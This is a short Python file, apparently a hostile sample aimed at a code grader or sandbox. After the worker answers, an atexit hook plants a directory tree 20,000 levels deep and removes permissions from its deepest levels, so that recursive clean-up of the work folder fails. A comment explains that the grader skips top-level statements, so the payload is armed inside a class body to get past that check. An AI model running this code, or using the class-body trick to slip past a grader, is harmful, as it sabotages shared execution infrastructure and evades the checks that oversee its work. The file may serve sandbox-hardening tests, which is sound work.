"""After the worker answers (atexit), leaves a directory tree 20,000 levels deep in the work
folder, the deepest levels without any permission, so a recursive clean-up fails."""

import atexit
import contextlib
import os


def plant():
    with contextlib.suppress(OSError):
        top = os.open(".", os.O_RDONLY)
        for _ in range(20_000):
            os.mkdir("d")
            os.chdir("d")
        for _ in range(50):
            os.chdir("..")
            os.chmod("d", 0)
        os.fchdir(top)


def _attack():
    atexit.register(plant)


class _Armed:  # top-level statements are skipped by the grader; a class body runs
    _attack()
